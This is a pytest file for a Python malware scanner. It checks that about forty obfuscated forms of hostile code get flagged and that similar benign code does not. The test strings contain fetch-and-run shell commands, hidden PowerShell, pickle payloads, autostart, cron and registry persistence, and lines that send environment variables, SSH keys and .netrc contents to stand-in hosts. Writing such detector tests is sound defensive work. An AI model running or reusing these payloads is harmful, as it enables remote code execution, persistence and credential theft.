"""The same order in many disguises: whatever Python would run is seen as that. Nothing here is run."""

import pytest

from core.findings import Level
from tests.core.scanning.examining import levels, look_at

C = "curl http://x.invalid/a | sh"

DISGUISES = {
    "join": "import subprocess\nsubprocess.Popen(''.join(['pow','ershell',' -w hidden x']))",
    "decor": "@exec\n@lambda f: 'import os; os.system(\"%s\")'\nclass a: pass" % C,
    "static": "import os\nclass A:\n  run = staticmethod(os.system)\nA.run('%s')" % C,
    "pickleconst": "import pickle\npickle.loads(b\"cposix\\nsystem\\n(S'echo'\\ntR.\")",
    "builtins": "import builtins\ngetattr(builtins,'ex'+'ec')('x=1')",
    "lambda": "import os\n(lambda: os.system('%s'))()" % C,
    "listcomp": "import os\n[os.system('%s') for _ in [0]]" % C,
    "with": "import os\nwith os.popen('%s') as f: pass" % C,
    "proc": "import os,multiprocessing\nmultiprocessing.Process(target=os.system,args=('%s',)).start()" % C,
    "atexit": "import os,atexit\natexit.register(os.system,'%s')" % C,
    "execvp": "import os\nos.execvp('sh',['sh','-c','%s'])" % C,
    "percent": "import os\nos.system('%s%s' % ('cur','l http://x.invalid | sh'))",
    "chrs": "import os\nos.system(" + "+".join(f"chr({ord(c)})" for c in C) + ")",
    "bytes": "import os\nos.system(str(b'%s','utf8'))" % C,
    "rev": "import os\nos.system(''.join(reversed('%s')))" % C[::-1],
    "hexcodec": "import os,codecs\nos.system(codecs.decode('%s','hex').decode())" % C.encode().hex(),
    "tobytes": "import os\nos.system((%d).to_bytes(%d,'big').decode())" % (int.from_bytes(C.encode(), "big"), len(C)),
    "type": "import os\ntype('X',(),{'__init__': lambda s: os.system('%s')})()" % C,
    "urlopen": "import urllib.request\nexec(urllib.request.urlopen('http://x.invalid').read())",
    "dictcmd": "import os\nCFG={'a':{'cmd':'%s'}}\nos.system(CFG['a']['cmd'])" % C,
    "global": "import os\ncmd=None\ndef setit():\n  global cmd\n  cmd='%s'\nsetit()\nos.system(cmd)" % C,
    "kw": "import subprocess\nsubprocess.run(args=['bash','-c','%s'])" % C,
    "default": "import os\ndef f(c='%s', run=os.system):\n  run(c)\nf()" % C,
    "yield": "import os\ndef g():\n  yield '%s'\nfor c in g(): os.system(c)" % C,
    "nested": "import os\ndef a():\n  def b():\n    os.system('%s')\n  return b\na()()" % C,
    "inherit": "import os\nclass B:\n  cmd='%s'\n  def go(self): os.system(self.cmd)\nclass D(B): pass\nD().go()" % C,
    "super": "import os,torch\nclass M(torch.nn.Module):\n  def __init__(self):\n    super().__init__()\n    os.system('%s')"
    % C,
    "reqexec": "import requests as r\nc=r.get('http://x.invalid').json()\nfor k,v in c.items():\n  exec(v)",
    "sess": "import requests\ns=requests.Session()\ns.verify=False\nx=s.post('https://x.invalid',json={'a':1})\nimport subprocess\nsubprocess.Popen(x.text,shell=True)",
    "shutil": "import os,sys,shutil\nshutil.copy(sys.argv[0], os.path.expanduser('~/.config/autostart/x.desktop'))",
    "cron": "import subprocess\nsubprocess.run(['crontab','/tmp/x'])",
    "tempbat": "import tempfile,os,requests\nf=tempfile.NamedTemporaryFile(delete=False,suffix='.bat')\nf.write(requests.get('https://x.invalid').content)\nf.close()\nos.startfile(f.name)",
    "pathlib": "from pathlib import Path\nimport urllib.request,subprocess\np=Path('/tmp')/'x.sh'\np.write_bytes(urllib.request.urlopen('https://x.invalid').read())\nsubprocess.run(['sh',str(p)])",
    "winreg": "import winreg as w\nk=w.CreateKey(w.HKEY_CURRENT_USER,'Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\'+'Run')\nw.SetValueEx(k,'a',0,1,'b')",
    "discord": "import requests,os\nrequests.post('https://discord.com/api/webhooks/1/x',json={'content':str(os.environ)})",
    "glob": "import glob,os,requests\nfor f in glob.glob(os.path.expanduser('~/.ssh/*')):\n  requests.post('https://x.invalid',files={'f':open(f,'rb')})",
    "exec_try": "try:\n  import os\n  exec(__import__('base64').b64decode('cHJpbnQoMSk='))\nexcept Exception: pass",
    "walrus": "import os\nif (c:='%s'): os.system(c)" % C,
    "matchc": "import os\nmatch 1:\n  case 1: os.system('%s')" % C,
    "starargs": "import os\na=['%s']\nos.system(*a)" % C,
    "ternary": "import os\nos.system('%s' if os.name!='nt' else 'dir')" % C,
    "fstr": "import os\nu='http://x.invalid/a'\nos.system(f'curl {u} | sh')",
    "fstr2": "import os,sys\nos.system(f'curl {sys.argv[1]} | bash')",
    "ctypes": "import ctypes\nctypes.windll.shell32.ShellExecuteW(None,'runas','powershell','-w hidden x',None,0)",
}


@pytest.mark.parametrize("disguise", DISGUISES)
def test_a_disguise_changes_nothing(disguise: str) -> None:
    found = levels(look_at("x.py", DISGUISES[disguise]))
    assert Level.HIGH in found.values(), found


@pytest.mark.parametrize(
    ("rule", "source"),
    [
        ("code-computed", "@eval\n@input\ndef f(): pass"),
        (
            "code-sends-secrets",
            "import os, requests\nrequests.post('https://x.invalid', data={'t': os.environ['HF_TOKEN']})",
        ),
        (
            "code-sends-secrets",
            "import os, requests\nrequests.post('https://x.invalid', json={'t': os.getenv('API_KEY')})",
        ),
    ],
)
def test_what_may_have_a_reason_asks_for_care(rule: str, source: str) -> None:
    assert levels(look_at("x.py", source))[rule] is Level.CAREFUL


@pytest.mark.parametrize(
    "source",
    [
        "import torch\n@torch.no_grad()\ndef f(x): return x\n@staticmethod\ndef g(): pass",
        "import functools\n@functools.lru_cache(maxsize=None)\ndef f(x): return x\n@property\ndef name(self): return 1",
        "import os, requests\nrequests.get('https://a.example', headers={'Authorization': os.environ['HF_TOKEN']})",
        "import pickle\nwith open('vectors.pkl', 'rb') as file:\n    data = pickle.load(file)",
        "out = open('log.txt', 'w')\nout.write('%s %d' % ('a', 1))",
    ],
)
def test_ordinary_code_of_the_same_shape_is_left_alone(source: str) -> None:
    assert set(levels(look_at("x.py", source)).values()) <= {Level.NOTE}


def test_whoever_opens_a_file_of_accounts_and_sends_it_is_a_thief_and_who_mentions_it_is_not() -> None:
    steals = "import requests\nrequests.post('https://x.invalid', data=open('/home/x/.netrc').read())"
    assert levels(look_at("x.py", steals))["code-sends-secrets"] is Level.HIGH
    mentions = "import requests\nNAMES = ('~/.netrc', '~/.pypirc')\nrequests.get('https://a.example')"
    assert set(levels(look_at("x.py", mentions)).values()) <= {Level.NOTE}
